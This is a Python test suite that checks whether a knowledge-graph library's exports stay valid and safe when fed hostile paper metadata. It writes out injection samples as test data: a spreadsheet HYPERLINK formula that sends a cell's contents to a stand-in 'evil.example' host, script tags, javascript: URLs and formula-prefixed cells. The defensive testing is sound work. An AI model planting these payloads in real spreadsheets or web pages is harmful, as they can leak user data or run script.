"""Exports valid by construction: a corpus of hostile text through every export.

Titles, abstracts, urls, code urls and ids hold line breaks (LF, CR, U+0085, U+2028),
control characters, quotes, ``<script>``, ``]]>``, spreadsheet formulas, spaces in URLs,
non-ASCII, a lone surrogate (added after extraction: spaCy rejects it), and ids that differ only by a control character. The graph
is built by the public functions (rule pipeline → :func:`paperkg.api.graph_from_papers`),
and each export is read back by independent consumers: rapper (Raptor), pyoxigraph and
rdflib for RDF; networkx and igraph for GraphML; paperkg's GEXF reader; the csv module.
"""

from __future__ import annotations

import csv
import logging
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET

import pytest
from rdflib import Graph, Literal, URIRef
from rdflib.compare import isomorphic
from rdflib.namespace import RDF, RDFS, SKOS

from paperkg.exports import FORMATS, export
from paperkg.exports.flatten import xml_text
from paperkg.exports.rdf import to_rdf
from paperkg.exports.tables import FORMULA_START, unneutralise
from paperkg.exports.vocab import PKG, paper_iri
from paperkg.extract.records import Paper
from paperkg.graph.schema import concept_nodes, paper_nodes

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
#: Papers whose every field is hostile. Ids "twin\x01", "twin\x02", "twin" and
#: "twin_x0001_" must stay four nodes in every export.
PAPERS = [
    Paper(
        id="lines",
        title='Line\nbreak\r\nCRLF\u2028LS\u0085NEL "quoted" \'single\' \\ back <script>alert(1)</script> ]]> BERT',
        abstract="We fine-tune BERT on SQuAD.\u2029Then\tquestion answering\x0b with GPT-4.\r\nEnd.",
        date="Mar 11",
        url="https://example.org/a paper?q=1 2#frag#ment",
        code_urls=("https://github.com/ctl\x01/repo", "https://github.com/ok/repo",
                   'https://github.com/q"uote/<b>'),
    ),
    Paper(
        id="formula",
        title=FORMULA,
        abstract="+SUM(A1:A9) -2 @cmd BERT is compared on ImageNet.",
        date="2025-03-11",
        url="https://example.org/\nnext-line",
        code_urls=("javascript:alert(1)",),
    ),
    Paper(id="twin\x01", title="\t=1+1 twin one", abstract="BERT on SQuAD.",
          date="Mar 11, 2024", url="http://münchen.example/ä ö"),
    Paper(id="twin\x02", title="\rtwin two", abstract="BERT on SQuAD.", url="ftp://example.org/x"),
    Paper(id="twin", title="@twin plain", abstract="BERT on SQuAD.", url="https://example.org/\x85"),
    Paper(id="twin_x0001_", title="-twin escaped-looking", abstract="BERT on SQuAD."),
    Paper(id="ünï 東京 \u2028", title="Zürich 東京 — naïve", abstract="ResNet-50 on ImageNet."),
]
#: Links that must come out as IRIs (escaped), and those kept as plain literals.
IRIS = {
    "https://example.org/a%20paper?q=1%202#frag%23ment",
    "https://github.com/ok/repo",
    "https://github.com/q%22uote/%3Cb%3E",
    "http://xn--mnchen-3ya.example/%C3%A4%20%C3%B6",
}
LITERALS = {
    "https://github.com/ctl/repo",  # \x01 dropped from the literal, as XML asks
    "javascript:alert(1)",
    "https://example.org/\nnext-line",
    "ftp://example.org/x",
    "https://example.org/\x85",
}
RDF_FORMATS = {  # name → (rdflib parser, pyoxigraph format name, rapper parser or None)
    "turtle": ("turtle", "TURTLE", "turtle"),
    "ntriples": ("nt", "N_TRIPLES", "ntriples"),
    "jsonld": ("json-ld", "JSON_LD", None),  # Raptor has no JSON-LD parser
    "rdfxml": ("xml", "RDF_XML", "rdfxml"),
}
NMTOKEN = re.compile(r"^[A-Za-z0-9._:\-]+$")


@pytest.fixture(scope="module")
def hostile_graph(rule_model):
    """The hostile corpus built by the public pipeline with the rule model."""
    from paperkg.api import graph_from_papers
    from paperkg.extract.ner.pipeline import load_pipeline

    G = graph_from_papers(PAPERS, load_pipeline(rule_model))
    # spaCy cannot take a lone surrogate (possible in JSON input), so it is added after
    # extraction: the exports must still carry the rest of the text.
    for attr in ("title", "label"):
        G.nodes["paper:ünï 東京 \u2028"][attr] += " \ud800 surrogate"
    return G


def test_injection_corpus_builds_every_node(hostile_graph):
    assert len(paper_nodes(hostile_graph)) == len(PAPERS)
    assert len(concept_nodes(hostile_graph)) >= 4
    assert hostile_graph.number_of_edges() >= len(PAPERS)


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_injection_every_format_exports_without_error(hostile_graph, tmp_path, name):
    if name == "png":
        pytest.importorskip("matplotlib")
    out = export(hostile_graph, tmp_path / f"out{FORMATS[name].suffixes[0]}", format=name)
    assert out.exists()


@pytest.fixture(scope="module")
def rdf_files(hostile_graph, tmp_path_factory):
    folder = tmp_path_factory.mktemp("rdf")
    return {name: export(hostile_graph, folder / f"g.{name}", format=name) for name in RDF_FORMATS}


@pytest.mark.parametrize("name", sorted(RDF_FORMATS))
def test_injection_rdf_parsed_by_rdflib_and_pyoxigraph(hostile_graph, rdf_files, name):
    import pyoxigraph

    parser, ox_format, _ = RDF_FORMATS[name]
    expected = to_rdf(hostile_graph)
    parsed = Graph().parse(rdf_files[name], format=parser)
    assert isomorphic(parsed, expected)
    triples = list(pyoxigraph.parse(path=str(rdf_files[name]), format=getattr(pyoxigraph.RdfFormat, ox_format)))
    assert len(set(triples)) == len(expected)
    papers = set(parsed.subjects(RDF.type, PKG.Paper))
    assert papers == {paper_iri(p.id) for p in PAPERS}  # twins stay apart


@pytest.mark.parametrize("name", sorted(n for n, f in RDF_FORMATS.items() if f[2]))
def test_injection_rdf_accepted_by_rapper(hostile_graph, rdf_files, name):
    rapper = shutil.which("rapper")
    if rapper is None:
        pytest.skip("rapper is not installed (Debian: apt-get install raptor2-utils)")
    done = subprocess.run(
        [rapper, "-i", RDF_FORMATS[name][2], "-c", str(rdf_files[name]), "https://example.org/base"],
        capture_output=True, text=True, timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert "Error" not in done.stderr and "Warning" not in done.stderr, done.stderr
    count = int(re.search(r"returned (\d+) triples", done.stderr).group(1))
    assert count == len(to_rdf(hostile_graph))


def test_injection_links_become_escaped_iris_or_literals(hostile_graph, caplog):
    with caplog.at_level(logging.WARNING, logger="paperkg.exports"):
        g = to_rdf(hostile_graph)
    links = set(g.objects(None, PKG.codeRepository)) | set(g.objects(None, RDFS.seeAlso))
    assert {str(o) for o in links if isinstance(o, URIRef)} == IRIS
    assert {str(o) for o in links if isinstance(o, Literal)} == LITERALS
    assert len([r for r in caplog.records if "not a valid web URL" in r.message]) == len(LITERALS)


def test_injection_dates_typed_only_with_a_year(hostile_graph):
    g = to_rdf(hostile_graph)
    dates = {str(s).rsplit("/", 1)[1]: d for s, d in g.subject_objects(URIRef("http://purl.org/dc/terms/date"))}
    assert dates["formula"].datatype is not None and str(dates["formula"]) == "2025-03-11"
    assert str(dates["twin%01"]) == "2024-03-11" and dates["twin%01"].datatype is not None
    assert dates["lines"] == Literal("Mar 11")


def test_injection_concepts_are_skos_concepts(hostile_graph):
    g = to_rdf(hostile_graph)
    concepts = set(g.subjects(RDF.type, SKOS.Concept))
    assert len(concepts) == len(concept_nodes(hostile_graph))
    assert concepts == set(g.subjects(RDF.type, PKG.Concept))


@pytest.mark.parametrize("name", ["graphml", "cooccurrence-graphml"])
def test_injection_graphml_read_by_networkx_and_igraph(hostile_graph, tmp_path, name):
    import igraph
    import networkx as nx

    from paperkg.graph.cooccurrence import cooccurrence_graph

    source = hostile_graph if name == "graphml" else cooccurrence_graph(hostile_graph)
    path = export(hostile_graph, tmp_path / f"g.{name.replace('-', '.')}", format=name)
    H = nx.read_graphml(path)
    assert (H.number_of_nodes(), H.number_of_edges()) == (source.number_of_nodes(), source.number_of_edges())
    assert all(NMTOKEN.match(n) for n in H)
    assert sorted(d["paperkg_id"] for _, d in H.nodes(data=True)) == sorted(xml_text(n) for n in source)
    by_id: dict[str, list[str]] = {}
    for n, d in H.nodes(data=True):
        by_id.setdefault(d["paperkg_id"], []).append(n)
    for u, v in source.edges:  # each edge joins the same two nodes (found by paperkg id)
        ends = by_id[xml_text(u)], by_id[xml_text(v)]
        assert any(H.has_edge(a, b) for a in ends[0] for b in ends[1]), (u, v)
    ig = igraph.Graph.Read_GraphML(str(path))
    assert (ig.vcount(), ig.ecount()) == (source.number_of_nodes(), source.number_of_edges())
    assert sorted(ig.vs["id"]) == sorted(H)
    keys = ET.parse(path).getroot().findall("{http://graphml.graphdrawing.org/xmlns}key")
    assert len({k.get("id") for k in keys}) == len(keys)  # key ids unique


def test_injection_graphml_twins_keep_their_own_edges(hostile_graph, tmp_path):
    import networkx as nx

    H = nx.read_graphml(export(hostile_graph, tmp_path / "g.graphml"))
    twins = [n for n in H if n.startswith("paper:twin")]
    assert sorted(twins) == ["paper:twin", "paper:twin_x0001_", "paper:twin_x0002_", "paper:twin_x005F_x0001_"]
    for n in twins:
        assert H.out_degree(n) == 2  # BERT and SQuAD, each paper its own


def test_injection_gexf_reads_back_without_merged_nodes(hostile_graph, tmp_path):
    from paperkg.exports.gexf import read_gexf

    H = read_gexf(export(hostile_graph, tmp_path / "g.gexf"))
    assert (H.number_of_nodes(), H.number_of_edges()) == (
        hostile_graph.number_of_nodes(), hostile_graph.number_of_edges())


def _cells(folder):
    for path in sorted(folder.iterdir()):
        with open(path, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        yield path.name, rows


@pytest.mark.parametrize("fmt", ["csv", "neo4j"])
def test_injection_csv_cells_neutralised(hostile_graph, tmp_path, fmt):
    out = export(hostile_graph, tmp_path / f"t-{fmt}", format=fmt)
    seen = []
    for name, rows in _cells(out):
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (name, cell)
                seen.append(cell)
    assert "'" + FORMULA in seen and FORMULA in [unneutralise(c) for c in seen]
    assert "'\t=1+1 twin one" in seen and "'@twin plain" in seen and "'-twin escaped-looking" in seen
    node_file = "nodes.csv" if fmt == "csv" else "papers.csv"
    rows = dict(_cells(out))[node_file]
    ids = [r[0] for r in rows[1:] if r[0].startswith("paper:")]
    assert len(ids) == len(set(ids)) == len(PAPERS)  # ids kept exactly: twins apart


FRESH = """
import pickle, sys
from paperkg.exports import export
G = pickle.load(open(sys.argv[1], "rb"))
for name in sys.argv[3:]:
    export(G, sys.argv[2] + "/" + name, format=name)
"""
#: Every RDF serialization, and the other text exports written here.
DETERMINISTIC = ["turtle", "ntriples", "jsonld", "rdfxml", "graphml", "cooccurrence-graphml", "csv", "neo4j"]


def test_injection_exports_identical_across_hash_seeds(hostile_graph, tmp_path):
    """Byte-identical exports from two interpreters with different PYTHONHASHSEED."""
    import os
    import pickle
    import sys

    graph = tmp_path / "g.pickle"
    graph.write_bytes(pickle.dumps(hostile_graph))
    for seed in ("1", "2"):
        (tmp_path / seed).mkdir()
        done = subprocess.run(
            [sys.executable, "-c", FRESH, str(graph), str(tmp_path / seed), *DETERMINISTIC],
            capture_output=True, text=True, timeout=300,
            env={**os.environ, "PYTHONHASHSEED": seed},
        )
        assert done.returncode == 0, done.stderr[-3000:]
    for name in DETERMINISTIC:
        one, two = tmp_path / "1" / name, tmp_path / "2" / name
        files = sorted(p.name for p in one.iterdir()) if one.is_dir() else [""]
        for f in files:
            a, b = (one / f, two / f) if f else (one, two)
            assert a.read_bytes() == b.read_bytes(), (name, f)
